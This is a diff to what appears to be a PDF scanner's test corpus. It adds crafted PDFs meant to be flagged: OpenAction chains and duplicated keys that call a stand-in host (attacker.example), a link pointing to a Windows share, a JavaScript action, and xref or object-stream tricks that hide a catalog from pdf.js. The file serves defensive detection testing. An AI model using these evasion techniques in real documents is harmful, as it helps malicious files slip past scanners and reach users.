@@ -99,11 +99,14 @@ import {
   escapeNames,
   handwrittenPages,
   handwrittenPdf,
+  hybridFreeCatalogPdf,
+  hybridStreams,
   incrementalUpdate,
   incrementalUpdateXrefStream,
   lengthDefinedTwicePdf,
   linearizedElsewherePdf,
   linkAnnotations,
+  objectStreamRedefinedPdf,
   outlineItem,
   type Packing,
   pageObjects,
@@ -480,38 +483,17 @@ function hybridReferencePdf(): Buffer {
   const base = buildClassicPdf(pageObjects('/OpenAction 6 0 R'));
   const tableAt = base.lastIndexOf('\nxref') + 1;
   const head = base.subarray(0, tableAt);
-  const inner = Buffer.from('6 0 << /S /JavaScript /JS (app.alert(1)) >>', 'latin1');
-  const objStm = Buffer.concat([
-    Buffer.from(
-      `7 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${deflateSync(inner).length} >>\nstream\n`,
-      'latin1',
-    ),
-    deflateSync(inner),
-    Buffer.from('\nendstream\nendobj\n', 'latin1'),
-  ]);
-  const objStmAt = head.length;
-  const xrefStmAt = objStmAt + objStm.length;
-  const rows = Buffer.alloc(3 * 7);
-  rows.writeUInt8(2, 0);
-  rows.writeUInt32BE(7, 1);
-  rows.writeUInt8(1, 7);
-  rows.writeUInt32BE(objStmAt, 8);
-  rows.writeUInt8(1, 14);
-  rows.writeUInt32BE(xrefStmAt, 15);
-  const xrefStm = Buffer.concat([
-    Buffer.from(
-      `8 0 obj\n<< /Type /XRef /Size 9 /W [1 4 2] /Index [6 3] /Length ${rows.length} >>\nstream\n`,
-      'latin1',
-    ),
-    rows,
-    Buffer.from('\nendstream\nendobj\n', 'latin1'),
-  ]);
-  const tableStart = xrefStmAt + xrefStm.length;
+  const streams = hybridStreams(
+    head.length,
+    6,
+    Buffer.from('6 0 << /S /JavaScript /JS (app.alert(1)) >>', 'latin1'),
+    true,
+  );
   const table = base
     .toString('latin1', tableAt)
-    .replace(/trailer\n<< \/Size \d+ /, `trailer\n<< /Size 9 /XRefStm ${xrefStmAt} `)
-    .replace(/startxref\n\d+/, `startxref\n${tableStart}`);
-  return Buffer.concat([head, objStm, xrefStm, Buffer.from(table, 'latin1')]);
+    .replace(/trailer\n<< \/Size \d+ /, `trailer\n<< /Size 9 /XRefStm ${streams.xrefStmAt} `)
+    .replace(/startxref\n\d+/, `startxref\n${head.length + streams.bytes.length}`);
+  return Buffer.concat([head, streams.bytes, Buffer.from(table, 'latin1')]);
 }
 
 const LINK_CATEGORY = 'PDF link into a Windows share or a local path';
@@ -738,6 +720,44 @@ const huntedPdfs: CorpusItem[] = [
   hunted('pdf-pages-a-stream-hidden-catalog', 'PDF_UNREADABLE', () => brokenPageTreePdf('/Pages 4 0 R')),
   // A table row pdf.js cannot read: it refuses the table and rebuilds from all bytes.
   hunted('pdf-table-row-spoiled-hidden-catalog', 'PDF_UNREADABLE', spoiledRowPdf),
+  // A hybrid file's table lists the catalog free, its /XRefStm packs it: pdf.js reads the free entry and rebuilds.
+  hunted('pdf-hybrid-free-catalog-hidden-catalog', 'PDF_UNREADABLE', hybridFreeCatalogPdf),
+  // An opening /GoTo whose /Next is a list of actions by reference: the list's second one calls out.
+  hunted('pdf-openaction-next-list-by-reference', 'PDF_ACTION', () =>
+    buildPdf(
+      [
+        ...pageObjects('/OpenAction 6 0 R'),
+        { num: 6, body: '<< /S /GoTo /D [3 0 R /Fit] /Next 7 0 R >>' },
+        { num: 7, body: '[8 0 R 9 0 R]' },
+        { num: 8, body: '<< /S /GoTo /D [3 0 R /FitH 0] >>' },
+        { num: 9, body: '<< /S /URI /URI (http://attacker.example/opened) >>' },
+      ],
+      { packed: [6, 7, 9] },
+    ),
+  ),
+  // A key written twice: pdf.js keeps the last value, a reader that keeps the first calls out.
+  hunted('pdf-openaction-type-written-twice', 'PDF_ACTION', () =>
+    buildClassicPdf(pageObjects('/OpenAction << /S /URI /URI (http://attacker.example/t) /S /GoTo /D [3 0 R /Fit] >>')),
+  ),
+  hunted('pdf-openaction-written-twice', 'PDF_ACTION', () =>
+    buildPdf(pageObjects('/OpenAction 6 0 R /OpenAction [3 0 R /Fit]').concat({ num: 6, body: URI_ACTION }), {
+      packed: [1, 6],
+    }),
+  ),
+  hunted('pdf-link-uri-written-twice-share-first', 'PDF_ACTION', () =>
+    buildClassicPdf(linkAnnotations(`<< /S /URI /URI ${UNC_FILE} /URI (https://www.miit.gov.cn/) >>`)),
+  ),
+  // A list read first as an older catalog's opening destination, then as the newer catalog's /Next list.
+  hunted('pdf-openaction-next-list-seen-as-destination', 'PDF_ACTION', () =>
+    incrementalUpdate(
+      buildClassicPdf([...pageObjects('/OpenAction 7 0 R'), { num: 7, body: '[8 0 R]' }, { num: 8, body: URI_ACTION }]),
+      [pageObjects('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 7 0 R >>')[0] as PdfObj],
+    ),
+  ),
+  // The catalog's object stream redefined by an update as no object stream: pdf.js rebuilds, taking a hidden catalog.
+  hunted('pdf-objstm-redefined-hidden-catalog', 'PDF_UNREADABLE', () =>
+    objectStreamRedefinedPdf({ num: 7, body: '<< /Type /Annot /Subtype /Square /Rect [0 0 9 9] >>' }),
+  ),
 ];
 
 /** PDFs whose structure cannot be read whole. */
